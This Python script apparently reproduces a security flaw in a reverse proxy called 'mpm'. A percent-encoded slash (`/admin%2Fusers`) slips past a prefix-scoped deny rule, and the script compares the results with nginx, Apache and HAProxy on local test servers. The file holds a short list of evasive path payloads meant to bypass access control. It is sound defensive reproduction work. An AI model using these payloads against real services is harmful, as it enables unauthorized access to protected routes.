"""r01: a route bound to a prefix (`/admin/`, here sent to a backend that answers 403, standing for
any route-scoped policy: per_client limits, origins, upgrade, timeout, a different backend) is
missed by `/admin%2Fusers`: mpm matches routes on the raw path with only unreserved escapes
decoded, so the request meets `/` and goes to the app byte for byte; a WSGI app (PEP 3333:
PATH_INFO is decoded; here the stdlib's wsgiref) reads the path as `/admin/users`.
nginx matches locations on the fully decoded URI (the `/admin/` location catches it); Apache's
default AllowEncodedSlashes Off answers 404 (run here too); HAProxy's raw `path_beg` misses it, like mpm.
Usage: /work/main/.venv/bin/python repro/r01_encoded_slash_route_bypass.py"""
import os, sys, tempfile, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import _peers as peers
from wsgiref.simple_server import make_server, WSGIRequestHandler

TARGETS = [b"/admin/users", b"/admin%2Fusers", b"/admin%2fusers", b"/%61dmin/users", b"/public/x"]


def app(environ, start_response):
    body = f"app PATH_INFO={environ['PATH_INFO']!r}".encode()
    start_response("200 OK", [("Content-Length", str(len(body)))])
    return [body]


class Quiet(WSGIRequestHandler):
    def log_message(self, *a): pass


def deny(head, body, n):
    return b"HTTP/1.1 403 Forbidden\r\nContent-Length: 13\r\n\r\nadmin: denied"


def main():
    srv = make_server("127.0.0.1", 0, app, handler_class=Quiet)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    denier = peers.Backend(deny)
    work = tempfile.mkdtemp(prefix="r04-")
    results = {}
    try:
        for name in ("mpm", "nginx", "haproxy", "apache"):
            if name == "mpm":
                p = peers.Mpm(srv.server_port, work, routes=(
                    f'  - {{path: /admin/, to: "http://127.0.0.1:{denier.port}/admin/"}}\n'
                    f'  - {{path: /, to: "http://127.0.0.1:{srv.server_port}/"}}\n'))
            elif name == "nginx":
                p = peers.Nginx(srv.server_port, work, location=(
                    "        location /admin/ { return 403 'admin: denied'; }\n"
                    "        location / { proxy_pass http://backend; proxy_http_version 1.1; proxy_set_header Connection ''; }\n"))
            elif name == "apache":
                p = peers.Apache(srv.server_port, work, extra="<Location /admin/>\n    Require all denied\n</Location>\n")
            else:
                p = peers.HAProxy(srv.server_port, work, extra_fe="    http-request deny deny_status 403 if { path_beg /admin/ }\n")
            try:
                for t in TARGETS:
                    out, _ = peers.exchange(p.port, b"GET " + t + b" HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n", idle=0.5)
                    status = out[9:12].decode() if out.startswith(b"HTTP/") else "-"
                    body = out.split(b"\r\n\r\n", 1)[-1][:60].decode("latin-1").replace("\n", " ")
                    results.setdefault(t, {})[name] = f"{status} {body}"
            finally:
                p.stop()
    finally:
        srv.shutdown(); srv.server_close(); denier.close()
    for t, row in results.items():
        print(t.decode())
        for name, v in row.items():
            print(f"    {name:8s} {v}")


if __name__ == "__main__":
    main()
